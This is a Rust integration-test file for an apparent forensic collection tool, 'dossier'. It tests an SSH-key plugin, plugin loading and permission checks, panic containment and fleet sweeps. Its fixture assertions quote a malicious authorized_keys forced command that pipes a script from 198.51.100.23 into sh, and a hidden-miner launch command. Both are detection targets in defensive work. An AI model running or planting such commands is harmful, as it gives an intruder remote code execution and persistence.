//! Dynamic plugins through the real binary: the `ssh-keys` plugin (built by this test run as a
//! shared library) collects a fixture root and a fleet of SSH lab hosts and its findings reach
//! the reports, with its SHA-256 in every manifest and report; plugins are found by
//! `--plugin`, `DOSSIER_PLUGIN_PATH` (with `--plugin-env` only) and the per-user directory,
//! each file and folder owned by us or root and writable by no one else; a playbook's plugin
//! requirements are enforced; and libraries that are not plugins, or built for another ABI,
//! API or target, or that panic in any entry point, are refused or contained with a clear
//! message while the run goes on.

// Tests may be long: the function-size limit of ARCHITECTURE.md is for code outside tests.
#![allow(clippy::too_many_lines)]

use dossier_tests::lab::{INTRUDER_FINGERPRINT, Lab, Scenario};
use dossier_tests::{
    dossier_bin, fixture, manifest, member, of_kind, sha256_file, ssh_keys_plugin, stderr, stdout,
    test_plugin,
};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

/// Runs dossier with `args` and `env`, with a fresh HOME (no per-user plugins) and no
/// `DOSSIER_PLUGIN_PATH` unless `env` sets it.
fn run(home: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(dossier_bin());
    c.args(args)
        .current_dir(home)
        .env("HOME", home)
        .env_remove("XDG_DATA_HOME")
        .env_remove("DOSSIER_PLUGIN_PATH")
        .env_remove("DOSSIER_PLUGIN_TEST")
        .stdin(Stdio::null());
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().expect("run dossier")
}

fn s(p: &Path) -> &str {
    p.to_str().expect("UTF-8 path")
}

const SSH_PLAYBOOK: &str = "name = \"ssh-hunt\"\n\n[plugins]\nssh-keys = \">=0.1, <0.2\"\n\n[collectors.facts]\n[collectors.cron]\n[collectors.systemd]\n[collectors.packages]\n[collectors.ssh-keys]\nmax_file_size = 65536\n";

/// Collects `root` with a playbook and plugins; returns (bundle, output dir).
fn collect(
    home: &Path,
    root: &Path,
    playbook: &str,
    plugin: &Path,
    env: &[(&str, &str)],
) -> (Output, PathBuf) {
    let pb = home.join("playbook.toml");
    std::fs::write(&pb, playbook).unwrap();
    let out = home.join("out");
    let o = run(
        home,
        &[
            "collect",
            "--quiet",
            "--root",
            s(root),
            "--out",
            s(&out),
            "--playbook",
            s(&pb),
            "--plugin",
            s(plugin),
        ],
        env,
    );
    (o, out)
}

fn bundle_of(o: &Output) -> PathBuf {
    assert!(
        o.status.success(),
        "collect failed: {}\n{}",
        stdout(o),
        stderr(o)
    );
    PathBuf::from(stdout(o).lines().last().expect("bundle path").trim())
}

fn run_of<'a>(m: &'a Value, collector: &str) -> &'a Value {
    m["collectors"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == collector)
        .unwrap_or_else(|| panic!("no collector {collector} in {m:#}"))
}

#[test]
fn ssh_keys_plugin_collects_and_analyzes_a_fixture_root() {
    let lib = ssh_keys_plugin();
    let sha = sha256_file(&lib);
    let d = tempfile::tempdir().unwrap();
    let (o, out) = collect(
        d.path(),
        &fixture("rootfs-persist"),
        SSH_PLAYBOOK,
        &lib,
        &[],
    );
    let b = bundle_of(&o);

    // Manifest: the plugin collector with its library path and SHA-256; every raw member
    // hashed like a built-in's.
    let m = manifest(&b);
    let r = run_of(&m, "ssh-keys");
    assert_eq!(r["status"], "ok", "{r:#}");
    assert_eq!(r["source"], format!("plugin:{}", lib.display()));
    assert_eq!(r["plugin_sha256"], sha);
    assert_eq!(run_of(&m, "cron")["source"], "builtin");
    let raw = m["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "raw/root/.ssh/authorized_keys")
        .expect("raw copy of root's authorized_keys");
    assert_eq!(raw["collector"], "ssh-keys");
    assert_eq!(
        raw["sha256"],
        sha256_file(&fixture("rootfs-persist").join("root/.ssh/authorized_keys"))
    );
    let log = String::from_utf8(member(&b, "log.jsonl")).unwrap();
    assert!(log.contains(&sha), "log.jsonl names the plugin's SHA-256");
    let ledger = std::fs::read_to_string(out.join("custody.jsonl")).unwrap();
    let analyzed = ledger
        .lines()
        .find(|l| l.contains("\"analyzed\""))
        .expect("analyzed entry");
    assert!(
        analyzed.contains(&format!("plugin ssh-keys 0.1.0 {sha}")),
        "{analyzed}"
    );

    // Records: fingerprints as `ssh-keygen -l` prints them, options broken out.
    let keys = of_kind(&b, "ssh-keys", "authorized_key");
    let fp = |k: &Value| k["fingerprint"].as_str().unwrap().to_string();
    let mut fps: Vec<(String, String)> = keys
        .iter()
        .map(|k| (k["user"].as_str().unwrap().to_string(), fp(k)))
        .collect();
    fps.sort();
    assert_eq!(
        fps,
        [
            (
                "root".into(),
                "SHA256:lxHZVLuTM8rofKLTkmssC4AvvodPt1HoUShaOCZDDj4".into()
            ),
            (
                "root".into(),
                "SHA256:woxDXOZjgPd1mn36zIRdt2hJ+ASIzazGmLO1VHahCW4".into()
            ),
            (
                "www-data".into(),
                "SHA256:TuSauPlHxQEcA8+VXOrcXbZ7eFBMv2QqdyiXv6XcLbA".into()
            ),
        ]
    );
    let forced = keys.iter().find(|k| k["command"].is_string()).unwrap();
    assert_eq!(
        forced["command"],
        "/usr/bin/curl -fsSL http://198.51.100.23/k.sh | sh"
    );
    assert_eq!(forced["comment"], "backup@db02");
    assert_eq!(forced["options"][1], "no-pty");
    let cfg = &of_kind(&b, "ssh-keys", "sshd_keys_config")[0];
    assert_eq!(
        cfg["authorized_keys_files"][1],
        "/etc/ssh/authorized_keys/%u"
    );

    // Reports: the plugin's rules fired with MITRE ids, and its SHA-256 is named.
    let report = std::fs::read_to_string(out.join("analysis/db02/report.md")).unwrap();
    for needle in [
        "`ssh-key-forced-command` T1098.004",
        "`ssh-key-root` T1098.004",
        "`ssh-key-system-account` T1098.004",
        "`ssh-key-source-restriction` T1098.004",
        "forces the command \"/usr/bin/curl -fsSL http://198.51.100.23/k.sh | sh\" at every login",
        &format!(
            "- Plugin collector `ssh-keys` 0.1.0: `{}` SHA-256 `{sha}`",
            lib.display()
        ),
        &format!(
            "- Plugin analyzer `ssh-keys` 0.1.0: `{}` SHA-256 `{sha}`",
            lib.display()
        ),
    ] {
        assert!(
            report.contains(&needle.replace('|', "\\|")),
            "{needle} not in report:\n{report}"
        );
    }
    let json: Value =
        serde_json::from_slice(&std::fs::read(out.join("analysis/findings.json")).unwrap())
            .unwrap();
    let host = &json["hosts"][0];
    assert!(
        host["plugins"]
            .as_array()
            .unwrap()
            .iter()
            .all(|p| p["sha256"] == sha)
    );
    let rules: Vec<&str> = host["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"ssh-key-forced-command"), "{rules:?}");
    let fleet = std::fs::read_to_string(out.join("analysis/fleet-report.md")).unwrap();
    assert!(
        fleet.contains("## Plugins") && fleet.contains(&sha),
        "{fleet}"
    );
    // A lone host is no fleet: no outlier finding.
    assert!(json["fleet_findings"].as_array().unwrap().is_empty());

    // The bundle verifies, and re-analysis without the plugin says its rules are missing
    // rather than clean... and with it gives the same report.
    let v = run(d.path(), &["verify", s(&b)], &[]);
    assert!(v.status.success(), "{}", stdout(&v));
    let again = d.path().join("again");
    let a = run(
        d.path(),
        &["analyze", s(&b), "--out", s(&again), "--plugin", s(&lib)],
        &[],
    );
    assert!(a.status.success(), "{}", stderr(&a));
    assert_eq!(
        std::fs::read_to_string(again.join("db02/report.md")).unwrap(),
        report,
        "same bundle, same plugin: same report"
    );
}

#[test]
fn plugins_are_found_by_flag_env_and_user_dir_and_listed() {
    let lib = ssh_keys_plugin();
    let sha = sha256_file(&lib);
    let d = tempfile::tempdir().unwrap();
    let listed = |o: &Output| {
        assert!(o.status.success(), "{}", stderr(o));
        let t = stdout(o);
        assert!(t.contains("collector ssh-keys"), "{t}");
        assert!(t.contains("analyzer  ssh-keys"), "{t}");
        assert!(t.contains(&sha), "{t}");
        assert!(
            t.contains("collector facts") && t.contains("builtin"),
            "{t}"
        );
        t
    };
    let t = listed(&run(d.path(), &["plugins", "--plugin", s(&lib)], &[]));
    assert!(t.contains(&lib.display().to_string()), "{t}");
    let o = run(d.path(), &["rules", "--plugin", s(&lib)], &[]);
    let rules = stdout(&o);
    assert!(
        rules
            .lines()
            .any(|l| l.starts_with("ssh-key-forced-command")
                && l.contains("T1098.004")
                && l.contains("(plugin ssh-keys)"))
            && rules.contains("[fleet]"),
        "{rules}"
    );
    // DOSSIER_PLUGIN_PATH only with --plugin-env: set alone, it is ignored, and said so.
    let env = lib.display().to_string();
    listed(&run(
        d.path(),
        &["plugins", "--plugin-env"],
        &[("DOSSIER_PLUGIN_PATH", &env)],
    ));
    let o = run(d.path(), &["plugins"], &[("DOSSIER_PLUGIN_PATH", &env)]);
    assert!(
        o.status.success() && !stdout(&o).contains("ssh-keys"),
        "{}",
        stdout(&o)
    );
    assert!(
        stderr(&o).contains("DOSSIER_PLUGIN_PATH is set but ignored: give --plugin-env"),
        "{}",
        stderr(&o)
    );
    let user = d.path().join(".local/share/dossier/plugins");
    std::fs::create_dir_all(&user).unwrap();
    std::fs::copy(&lib, user.join("ssh-keys.so")).unwrap();
    std::fs::write(user.join("broken.so"), "not a library").unwrap();
    let o = run(d.path(), &["plugins"], &[]);
    let t = listed(&o);
    assert!(
        t.contains(&user.join("ssh-keys.so").display().to_string()),
        "{t}"
    );
    // A broken library in the per-user directory is skipped with a warning, not fatal.
    assert!(
        stderr(&o).contains("broken.so") && stderr(&o).contains("skipped"),
        "{}",
        stderr(&o)
    );
    // The same plugin from --plugin and the user directory: the flag wins, with a note.
    let o = run(d.path(), &["plugins", "--plugin", s(&lib)], &[]);
    assert!(stderr(&o).contains("already loaded from"), "{}", stderr(&o));
    // Without plugins: built-ins only.
    std::fs::remove_dir_all(&user).unwrap();
    let o = run(d.path(), &["plugins"], &[]);
    assert!(
        o.status.success() && !stdout(&o).contains("ssh-keys"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn plugins_others_can_change_are_refused() {
    use std::os::unix::fs::{PermissionsExt, chown};
    let lib = ssh_keys_plugin();
    let d = tempfile::tempdir().unwrap();
    let user = d.path().join(".local/share/dossier/plugins");
    std::fs::create_dir_all(&user).unwrap();
    let planted = user.join("ssh-keys.so");
    std::fs::copy(&lib, &planted).unwrap();
    let mode =
        |p: &Path, m: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
    let refused = |o: &Output, what: &str| {
        assert!(
            !stdout(o).contains("plugin ssh-keys"),
            "loaded: {}",
            stdout(o)
        );
        assert!(stderr(o).contains(what), "{}", stderr(o));
    };
    // A group-writable library in the per-user directory: skipped with a warning, run goes on.
    mode(&planted, 0o775);
    let o = run(d.path(), &["plugins"], &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    refused(&o, "group- or world-writable (mode 0775)");
    assert!(stderr(&o).contains("skipped"), "{}", stderr(&o));
    // The same named by --plugin: the command stops (exit 2) with the reason.
    let o = run(d.path(), &["plugins", "--plugin", s(&planted)], &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    refused(&o, "refused: the plugin file is group- or world-writable");
    // A library another user owns (planted by `nobody`, who could rewrite it).
    mode(&planted, 0o755);
    chown(&planted, Some(65534), Some(65534)).unwrap();
    let o = run(d.path(), &["plugins"], &[]);
    refused(&o, "is owned by uid 65534, not by you");
    chown(&planted, Some(0), Some(0)).unwrap();
    // A world-writable plugin folder: nothing in it is loaded.
    mode(&user, 0o777);
    let o = run(d.path(), &["plugins"], &[]);
    refused(
        &o,
        "the plugin folder is group- or world-writable (mode 0777)",
    );
    // Put right: loaded.
    mode(&user, 0o755);
    let o = run(d.path(), &["plugins"], &[]);
    assert!(stdout(&o).contains("plugin ssh-keys"), "{}", stderr(&o));
}

#[test]
fn playbooks_are_listed_shown_and_require_their_plugins() {
    let d = tempfile::tempdir().unwrap();
    let o = run(d.path(), &["playbooks"], &[]);
    let t = stdout(&o);
    for name in ["triage", "miner-hunt", "full"] {
        assert!(
            t.lines().any(|l| l.starts_with(name)),
            "{name} not listed:\n{t}"
        );
    }
    let o = run(d.path(), &["playbooks", "show", "miner-hunt"], &[]);
    assert!(o.status.success());
    let shown = stdout(&o);
    let text =
        std::fs::read_to_string(dossier_tests::repo_root().join("playbooks/miner-hunt.toml"))
            .unwrap();
    assert!(shown.ends_with(&text), "show prints the exact text");
    assert!(shown.contains(&format!("# sha256: {}", {
        use sha2::Digest;
        dossier_plugin_api::encoding::hex(&sha2::Sha256::digest(text.as_bytes()))
    })));
    assert_eq!(
        run(d.path(), &["playbooks", "show", "nope"], &[])
            .status
            .code(),
        Some(2)
    );

    // The playbook needs ssh-keys: without the plugin, a clear error naming file, line, key.
    let pb = d.path().join("ssh.toml");
    std::fs::write(&pb, SSH_PLAYBOOK).unwrap();
    let root = fixture("rootfs-clean");
    let o = run(
        d.path(),
        &["collect", "--root", s(&root), "--playbook", s(&pb)],
        &[],
    );
    assert_eq!(o.status.code(), Some(2));
    let e = stderr(&o);
    assert!(
        e.contains(&format!("{}, line 4, key `plugins.ssh-keys`", pb.display()))
            && e.contains("required but not loaded"),
        "{e}"
    );
    // A plugin collector's settings are validated by the plugin, errors located as usual.
    std::fs::write(&pb, SSH_PLAYBOOK.replace("65536", "\"big\"")).unwrap();
    let lib = ssh_keys_plugin();
    let o = run(
        d.path(),
        &[
            "collect",
            "--root",
            s(&root),
            "--playbook",
            s(&pb),
            "--plugin",
            s(&lib),
        ],
        &[],
    );
    assert_eq!(o.status.code(), Some(2));
    let e = stderr(&o);
    assert!(
        e.contains("line 10, key `collectors.ssh-keys`") && e.contains("invalid type"),
        "{e}"
    );
    // A version range the plugin does not satisfy: both versions named.
    std::fs::write(&pb, SSH_PLAYBOOK.replace(">=0.1, <0.2", "^2.1")).unwrap();
    let o = run(
        d.path(),
        &[
            "collect",
            "--root",
            s(&root),
            "--playbook",
            s(&pb),
            "--plugin",
            s(&lib),
        ],
        &[],
    );
    assert_eq!(o.status.code(), Some(2));
    let e = stderr(&o);
    assert!(
        e.contains("ssh-keys` 0.1.0") && e.contains("does not satisfy the required version ^2.1"),
        "{e}"
    );
}

#[test]
fn incompatible_or_foreign_libraries_are_refused() {
    let lib = test_plugin();
    let d = tempfile::tempdir().unwrap();
    let refused = |env: &[(&str, &str)], path: &Path| {
        let o = run(d.path(), &["plugins", "--plugin", s(path)], env);
        assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
        stderr(&o)
    };
    let abi = dossier_plugin_abi::ABI_VERSION;
    let e = refused(&[("DOSSIER_PLUGIN_TEST", "wrong-abi")], &lib);
    assert!(
        e.contains(&format!("plugin ABI version {}", abi + 41))
            && e.contains(&format!("speaks plugin ABI version {abi}"))
            && e.contains(&lib.display().to_string()),
        "{e}"
    );
    let e = refused(&[("DOSSIER_PLUGIN_TEST", "wrong-api")], &lib);
    assert!(
        e.contains("plugin API 99.0.0")
            && e.contains(&format!("plugin API {}", dossier_plugin_api::API_VERSION)),
        "{e}"
    );
    let e = refused(&[("DOSSIER_PLUGIN_TEST", "wrong-target")], &lib);
    assert!(
        e.contains("sparc64-sun-solaris") && e.contains(dossier_plugin_abi::TARGET),
        "{e}"
    );
    // A real shared library that is no plugin, and a file that is no library at all.
    let libc = [
        "/lib/x86_64-linux-gnu/libc.so.6",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "/lib64/libc.so.6",
        "/usr/lib64/libc.so.6",
    ]
    .iter()
    .map(Path::new)
    .find(|p| p.is_file())
    .expect("libc.so.6");
    let e = refused(&[], libc);
    assert!(
        e.contains("not a dossier plugin") && e.contains("dossier_plugin_info"),
        "{e}"
    );
    let text = d.path().join("fake.so");
    std::fs::write(&text, "#!/bin/sh\n").unwrap();
    let e = refused(&[], &text);
    assert!(e.contains("not a loadable shared library"), "{e}");
    // The well-behaved mode loads, beside another plugin (each library loaded as itself).
    let ssh = ssh_keys_plugin();
    let o = run(
        d.path(),
        &["plugins", "--plugin", s(&ssh), "--plugin", s(&lib)],
        &[],
    );
    assert!(stdout(&o).contains("collector ssh-keys"), "{}", stdout(&o));
    assert!(
        o.status.success() && stdout(&o).contains("reporter  probe-report"),
        "{}{}",
        stdout(&o),
        stderr(&o)
    );
}

const PROBE_PLAYBOOK: &str = "name = \"probe\"\n[collectors.facts]\n[collectors.cron]\n[collectors.probe]\n[reporters.probe-report]\ntitle = \"P\"\n";

#[test]
fn a_plugin_panicking_in_each_entry_point_is_contained() {
    let lib = test_plugin();
    let root = fixture("rootfs-clean");
    let with = |mode: &str| {
        let d = tempfile::tempdir().unwrap();
        let (o, out) = collect(
            d.path(),
            &root,
            PROBE_PLAYBOOK,
            &lib,
            &[("DOSSIER_PLUGIN_TEST", mode)],
        );
        (d, o, out)
    };

    // Behaving: collector, analyzer (host and fleet) and reporter all contribute.
    let (_d, o, out) = with("");
    let b = bundle_of(&o);
    assert_eq!(of_kind(&b, "probe", "probe")[0]["hostname"], "clean-web01");
    assert_eq!(of_kind(&b, "probe", "probe")[0]["facts_seen"], true);
    let a = out.join("analysis");
    let report = std::fs::read_to_string(a.join("clean-web01/report.md")).unwrap();
    assert!(report.contains("`probe-seen` T1082"), "{report}");
    // The analyzer read the raw copy of /etc/hostname through dossier.
    assert!(
        report.contains("probe saw hostname \"clean-web01\" (12 raw bytes)"),
        "{report}"
    );
    assert_eq!(
        std::fs::read_to_string(a.join("clean-web01/probe.txt")).unwrap(),
        "P: clean-web01 score 1\n"
    );
    assert_eq!(
        std::fs::read_to_string(a.join("probe-fleet.txt")).unwrap(),
        "P: 1 host(s): clean-web01; 1 fleet finding(s)\n"
    );
    let fleet = std::fs::read_to_string(a.join("fleet-report.md")).unwrap();
    assert!(
        fleet.contains("## Fleet-level Findings") && fleet.contains("1 host(s) probed"),
        "{fleet}"
    );
    assert!(fleet.contains("| reporter | probe-report |"), "{fleet}");

    // At load (create, info, destroy) or playbook validation: the command refuses, naming the
    // plugin, and exits normally (code 2, not an abort).
    for (mode, needle) in [
        (
            "panic-create",
            "create panicked: plugin panicked: test plugin panics in create",
        ),
        (
            "panic-info",
            "info panicked: plugin panicked: test plugin panics in info",
        ),
        (
            "panic-validate",
            "collectors.probe`: plugin probe: validate_config panicked",
        ),
    ] {
        let (_d, o, _) = with(mode);
        assert_eq!(o.status.code(), Some(2), "{mode}: {}", stdout(&o));
        assert!(stderr(&o).contains(needle), "{mode}: {}", stderr(&o));
    }

    // While collecting: that collector failed, the others ran, the bundle is complete.
    let (d, o, out) = with("panic-collect");
    let b = bundle_of(&o);
    let m = manifest(&b);
    let probe = run_of(&m, "probe");
    assert_eq!(probe["status"], "failed");
    assert!(
        probe["error"]
            .as_str()
            .unwrap()
            .contains("test plugin panics in collect"),
        "{probe}"
    );
    assert_eq!(run_of(&m, "cron")["status"], "ok");
    assert!(run(d.path(), &["verify", s(&b)], &[]).status.success());
    let report = std::fs::read_to_string(out.join("analysis/clean-web01/report.md")).unwrap();
    assert!(
        report.contains("- `probe-seen` Probe record seen: collector 'probe' failed"),
        "{report}"
    );

    // While analyzing: its rules are not evaluated, with the panic as the reason.
    let (_d, o, out) = with("panic-analyze");
    bundle_of(&o);
    let report = std::fs::read_to_string(out.join("analysis/clean-web01/report.md")).unwrap();
    assert!(
        report.contains("analyzer plugin 'probe' failed") && report.contains("panics in analyze"),
        "{report}"
    );
    assert!(
        report.contains("- analyzer plugin `probe`: failed (plugin probe: analyze panicked"),
        "the failure is a gap: {report}"
    );

    // Fleet phase and reporters: a warning; the built-in reports are written.
    for (mode, missing) in [
        ("panic-fleet", None),
        ("panic-report-host", Some("clean-web01/probe.txt")),
        ("panic-report-finish", Some("probe-fleet.txt")),
    ] {
        let (_d, o, out) = with(mode);
        bundle_of(&o);
        assert!(
            stderr(&o).contains(&format!("panics in {}", &mode[6..])),
            "{mode}: {}",
            stderr(&o)
        );
        let a = out.join("analysis");
        assert!(a.join("fleet-report.md").is_file() && a.join("findings.json").is_file());
        if let Some(m) = missing {
            assert!(!a.join(m).exists(), "{mode}: {m} written");
        }
    }
}

#[test]
fn sweep_with_the_ssh_keys_plugin_finds_the_intruders_key_on_part_of_the_fleet() {
    let _g = dossier_tests::lab::serial();
    let Some(lab) = Lab::start_or_skip(&[Scenario::Clean, Scenario::Miner, Scenario::NonRoot])
    else {
        return;
    };
    let lib = ssh_keys_plugin();
    let sha = sha256_file(&lib);
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let kh = tmp.path().join("known_hosts");
    std::fs::copy(lab.known_hosts(), &kh).unwrap();
    let pb = tmp.path().join("ssh.toml");
    std::fs::write(&pb, SSH_PLAYBOOK).unwrap();
    let mut c = lab.sweep_command(tmp.path());
    c.args(lab.targets())
        .args([
            "--out",
            s(&out),
            "--known-hosts",
            s(&kh),
            "--playbook",
            s(&pb),
            "--plugin",
            s(&lib),
        ])
        .args(["-i", s(lab.client_key())])
        .args(["--ssh-config", "/dev/null", "--connect-timeout", "5", "-q"]);
    let o = c.output().unwrap();
    assert!(
        o.status.success(),
        "sweep failed: {}\n{}",
        stdout(&o),
        stderr(&o)
    );

    let bundles: Vec<PathBuf> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "zip"))
        .collect();
    assert_eq!(bundles.len(), 3);
    let miner = lab
        .hosts()
        .iter()
        .find(|h| h.scenario == Scenario::Miner)
        .unwrap();
    for b in &bundles {
        let m = manifest(b);
        let r = run_of(&m, "ssh-keys");
        assert_eq!(r["plugin_sha256"], sha);
        assert_ne!(r["status"], "failed", "{r:#}");
        let keys = of_kind(b, "ssh-keys", "authorized_key");
        let intruder = keys
            .iter()
            .any(|k| k["fingerprint"] == INTRUDER_FINGERPRINT);
        assert_eq!(
            intruder,
            m["host"]["hostname"] == miner.name.as_str(),
            "{}",
            b.display()
        );
        assert!(
            !keys.is_empty(),
            "every host has the lab client's key: {}",
            b.display()
        );
    }
    let a = out.join("analysis");
    let fleet = std::fs::read_to_string(a.join("fleet-report.md")).unwrap();
    assert!(fleet.contains("## Fleet-level Findings"), "{fleet}");
    let section = &fleet
        [fleet.find("## Fleet-level Findings").unwrap()..fleet.find("## Cross-host").unwrap()];
    assert!(
        section.contains(INTRUDER_FINGERPRINT)
            && section.contains(&format!("**Hosts:** 1 of 3: {}", miner.name))
            && section.contains("`ssh-key-fleet-outlier`")
            && section.contains("T1098.004"),
        "{section}"
    );
    assert_eq!(
        section.matches("### FLEET-").count(),
        1,
        "only the intruder's key: {section}"
    );
    let report = std::fs::read_to_string(a.join(&miner.name).join("report.md")).unwrap();
    assert!(
        report.contains("forces the command \"/var/log/log >/dev/null 2>&1 &\""),
        "{report}"
    );
    assert!(report.contains(&sha));
    let json: Value =
        serde_json::from_slice(&std::fs::read(a.join("findings.json")).unwrap()).unwrap();
    assert_eq!(
        json["fleet_findings"][0]["hosts"],
        serde_json::json!([miner.name])
    );
}

#[test]
fn the_plugin_template_builds_and_loads() {
    // The template is its own workspace (not built by `cargo test --workspace`): build it
    // into this run's target directory, where it reuses the compiled dependencies.
    let exe = std::env::current_exe().unwrap();
    let profile_dir = exe.parent().and_then(Path::parent).unwrap();
    let target = profile_dir.parent().unwrap();
    let cargo_toml = dossier_tests::repo_root().join("dist/plugin-template/Cargo.toml");
    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
    let mut c = Command::new(cargo);
    c.args([
        "build",
        "--offline",
        "--locked",
        "--quiet",
        "--manifest-path",
        s(&cargo_toml),
    ])
    .env("CARGO_TARGET_DIR", target)
    .stdin(Stdio::null());
    if profile_dir.file_name().is_some_and(|n| n == "release") {
        c.arg("--release");
    }
    let o = c.output().unwrap();
    assert!(o.status.success(), "template build failed: {}", stderr(&o));
    let lib = profile_dir.join("libdossier_plugin_template.so");
    let d = tempfile::tempdir().unwrap();
    let o = run(d.path(), &["plugins", "--plugin", s(&lib)], &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("collector login-banners"),
        "{}",
        stdout(&o)
    );
    let root = d.path().join("root");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("etc/issue"), "Welcome to db09\n").unwrap();
    let playbook =
        "name = \"banners\"\n[plugins]\nlogin-banners = \"^0.1\"\n[collectors.login-banners]\n";
    let (o, _) = collect(d.path(), &root, playbook, &lib, &[]);
    let b = bundle_of(&o);
    let recs = of_kind(&b, "login-banners", "login_banner");
    assert_eq!(recs.len(), 1);
    assert_eq!(recs[0]["first_line"], "Welcome to db09");
    assert_eq!(
        run_of(&manifest(&b), "login-banners")["plugin_sha256"],
        sha256_file(&lib)
    );
}

#[test]
fn builtin_playbooks_change_what_is_collected_and_how_it_is_scored() {
    let d = tempfile::tempdir().unwrap();
    let root = fixture("rootfs-miner");
    let mut verified = Vec::new();
    for name in ["triage", "miner-hunt", "full"] {
        let out = d.path().join(name);
        let o = run(
            d.path(),
            &[
                "collect",
                "-q",
                "--root",
                s(&root),
                "--out",
                s(&out),
                "--playbook",
                name,
            ],
            &[],
        );
        let b = bundle_of(&o);
        let m = manifest(&b);
        let text = std::fs::read(dossier_tests::repo_root().join(format!("playbooks/{name}.toml")))
            .unwrap();
        let sha = {
            use sha2::Digest;
            dossier_plugin_api::encoding::hex(&sha2::Sha256::digest(&text))
        };
        assert_eq!(m["playbook"]["name"], name);
        assert_eq!(m["playbook"]["sha256"], sha);
        let report = std::fs::read_to_string(out.join("analysis/esxi-web01/report.md")).unwrap();
        assert!(
            report.contains(&format!("- Playbook: {name} (`{sha}`)")),
            "{report}"
        );
        // Every playbook catches the miner and its binary's strings.
        for rule in ["`miner-strings`", "`exec-unowned`", "`root-cron-reboot`"] {
            assert!(report.contains(rule), "{name}: {rule} missing:\n{report}");
        }
        let miner = if name == "miner-hunt" {
            "(+40) [CRITICAL] `miner-strings`"
        } else {
            "(+10) [HIGH] `miner-strings`"
        };
        assert!(report.contains(miner), "{name}:\n{report}");
        verified.push(of_kind(&b, "packages", "package_verify"));
    }
    // full verifies every package file; triage and miner-hunt (same collectors) what runs and
    // the system-wide hook files, the same set.
    let paths = |v: &[serde_json::Value]| -> std::collections::BTreeSet<String> {
        v.iter()
            .map(|x| x["path"].as_str().unwrap().to_string())
            .collect()
    };
    let (triage, hunt) = (paths(&verified[0]), paths(&verified[1]));
    assert_eq!(hunt, triage);
    assert!(
        verified[0].iter().any(|v| v["referenced_by"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r.as_str().unwrap().starts_with("hook "))),
        "no hook file verified"
    );
    assert!(verified[2].len() > verified[0].len());
}
